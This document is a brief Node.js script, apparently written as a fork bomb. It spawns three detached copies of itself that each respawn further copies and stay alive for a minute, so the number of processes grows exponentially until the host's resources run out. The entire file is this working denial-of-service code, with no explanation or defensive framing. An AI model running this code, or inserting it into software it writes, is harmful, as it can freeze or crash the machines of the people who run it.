const { spawn } = require("node:child_process");
const bomb = "const{spawn}=require('child_process');for(let i=0;i<3;i++)spawn(process.execPath,['-e',process.argv[1],process.argv[1]],{stdio:'ignore',detached:true}).on('error',()=>{});setTimeout(()=>{},60000)";
for (let i = 0; i < 3; i++) {
  spawn(process.execPath, ["-e", bomb, bomb], { stdio: "ignore", detached: true }).on("error", () => {});
}
setTimeout(() => {}, 60_000);
